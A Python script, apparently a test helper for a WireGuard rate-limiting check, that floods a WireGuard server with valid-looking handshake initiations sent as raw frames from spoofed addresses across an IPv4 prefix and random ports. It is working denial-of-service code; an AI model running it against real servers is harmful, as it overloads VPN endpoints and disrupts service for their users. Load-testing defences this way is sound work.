#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""challenge DEVICE MAC PREFIX DESTINATION PORT PUBLIC-KEY RATE TIMES [SOURCE-PORT]: floods a WireGuard server with initiations.

Their mac1 is right, so WireGuard has to process them. They come from any address of an IPv4 prefix (a /32 too) and from any port: RATE a
second, in TIMES bursts. Ends on SIGTERM and prints how many it sent. On a slow CPU it may send fewer than LEAST in a second; then it prints `lull`."""
import collections
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time

import wgpackets

device, mac, prefix, destination, port, key, rate, times = sys.argv[1:9]
source_port = int(sys.argv[9]) if len(sys.argv) > 9 else 0
mac1_key = wgpackets.mac1_key(key)
net = ipaddress.ip_network(prefix)
FRAMES = 10000
LEAST = 200  # twice the limit in challenge.sh


def ip_sum(head):
    s = sum(struct.unpack('!10H', head))
    s = (s & 0xffff) + (s >> 16)
    return ~(s + (s >> 16)) & 0xffff


def frame():
    message = wgpackets.handshake(b'\1\0\0\0', mac1_key)
    source = net[random.randrange(1, net.num_addresses - 1) if net.num_addresses > 2 else 0].packed
    head = struct.pack('!BBHHHBBH', 0x45, 0, 28 + len(message), 0, 0x4000, 64, 17, 0) + source + socket.inet_aton(destination)
    head = head[:10] + struct.pack('!H', ip_sum(head)) + head[12:]
    udp = struct.pack('!HHHH', source_port or random.randrange(1024, 65536), int(port), 8 + len(message), 0)
    return bytes.fromhex(mac.replace(':', '')) + b'\2\0\0\0\0\1\x08\0' + head + udp + message


def end(*_):
    print('sent', sent, flush=True)
    os._exit(0)


sent = 0
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
frames = [frame() for _ in range(FRAMES)]
signal.signal(signal.SIGTERM, end)
print('floods', flush=True)
begun = time.monotonic()
pauses = 0
second = collections.deque()  # time and size of each batch
last_lull = begun
while True:
    while second and second[0][0] < time.monotonic() - 1:
        second.popleft()
    if time.monotonic() - last_lull > 1 and sum(n for _, n in second) < LEAST:
        last_lull = time.monotonic()
        print('lull', flush=True)
    before = sent
    for _ in range(max(1, int(rate) // int(times))):
        try:
            out.send(frames[sent % FRAMES])
        except OSError:  # no room
            continue
        sent += 1
    second.append((time.monotonic(), sent - before))
    pauses += 1
    late = begun + pauses / int(times) - time.monotonic()
    if late > 0:
        time.sleep(late)
    else:
        begun -= late  # skip missed messages
